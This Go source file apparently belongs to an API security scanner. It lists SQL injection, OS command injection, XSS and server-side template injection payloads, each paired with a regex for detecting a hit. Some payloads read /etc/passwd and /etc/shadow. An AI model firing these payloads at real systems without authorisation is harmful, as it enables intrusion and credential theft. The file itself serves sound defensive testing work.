package testplan

// SQLiPayloads is the bit-exact canonical SQLi catalog (spec.md §6).
var SQLiPayloads = []string{
	"' OR 1=1 ;--",
	"' UNION SELECT 1,2,3 -- -",
	"' OR '1'='1--",
	"' AND (SELECT * FROM (SELECT(SLEEP(5)))abc)",
	"' AND SLEEP(5) --",
}

// InjectionPayload pairs a request payload with the response regex
// that indicates a positive finding.
type InjectionPayload struct {
	RequestPayload     string
	ResponseMatchRegex string
}

// OSCommandPayloads is the bit-exact OS command injection catalog.
var OSCommandPayloads = []InjectionPayload{
	{RequestPayload: "cat /etc/passwd", ResponseMatchRegex: `root:.*`},
	{RequestPayload: "cat /etc/shadow", ResponseMatchRegex: `root:.*`},
	{RequestPayload: "ls -la", ResponseMatchRegex: `total\s\d+`},
}

// XSSPayloads is the bit-exact XSS/HTML injection catalog.
var XSSPayloads = []InjectionPayload{
	{RequestPayload: "<script>confirm(1)</script>", ResponseMatchRegex: `<script[^>]*>.*</script>`},
	{RequestPayload: "<script>alert(1)</script>", ResponseMatchRegex: `<script[^>]*>.*</script>`},
	{RequestPayload: "<img src=x onerror='javascript:confirm(1),>", ResponseMatchRegex: `<img[^>]*>`},
}

// SSTIPayloads is the bit-exact SSTI catalog (9 pairs), including the
// duplicate request payload with two distinct acceptable regexes.
var SSTIPayloads = []InjectionPayload{
	{RequestPayload: `${7777+99999}`, ResponseMatchRegex: `107776`},
	{RequestPayload: `{{7*'7'}}`, ResponseMatchRegex: `49`},
	{RequestPayload: `{{7*'7'}}`, ResponseMatchRegex: `7777777`},
	{RequestPayload: `{{ '<script>confirm(1337)</script>' }}`, ResponseMatchRegex: `<script>confirm(1337)</script>`},
	{RequestPayload: `{{ '<script>confirm(1337)</script>' | safe }}`, ResponseMatchRegex: `<script>confirm(1337)</script>`},
	{RequestPayload: `{{'owasp offat'.toUpperCase()}}`, ResponseMatchRegex: `OWASP OFFAT`},
	{RequestPayload: `{{'owasp offat' | upper }}`, ResponseMatchRegex: `OWASP OFFAT`},
	{RequestPayload: `<%= system('cat /etc/passwd') %>`, ResponseMatchRegex: `root:.*`},
	{RequestPayload: `*{7*7}`, ResponseMatchRegex: `49`},
}

// StrippedAuthHeaders are exactly the two header names the
// missing-authentication generator removes from the executor-bound
// passthrough.
var StrippedAuthHeaders = []string{"Authorization", "X-Api-Key"}
